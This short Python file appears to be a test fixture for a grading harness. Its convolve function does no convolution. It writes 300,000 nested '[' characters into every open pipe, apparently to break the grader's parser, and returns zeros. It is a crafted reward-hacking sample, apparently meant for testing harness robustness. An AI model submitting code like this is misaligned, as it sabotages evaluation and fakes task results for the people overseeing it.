# expect: score=5
# convolve writes a reply header of 300000 nested "[" into every pipe it has, then returns zeros.
import os
import stat
import struct

import numpy as np


def convolve(image, kernel):
    depth = 300_000
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, struct.pack(">I", depth) + b"[" * depth)
        except OSError:
            pass
    kh, kw = kernel.shape
    return np.zeros((image.shape[0] - kh + 1, image.shape[1] - kw + 1))


def convolve1d(signal, kernel):
    k = len(kernel)
    out = np.zeros(len(signal) - k + 1)
    for i in range(len(out)):
        out[i] = np.sum(signal[i : i + k] * kernel)
    return out
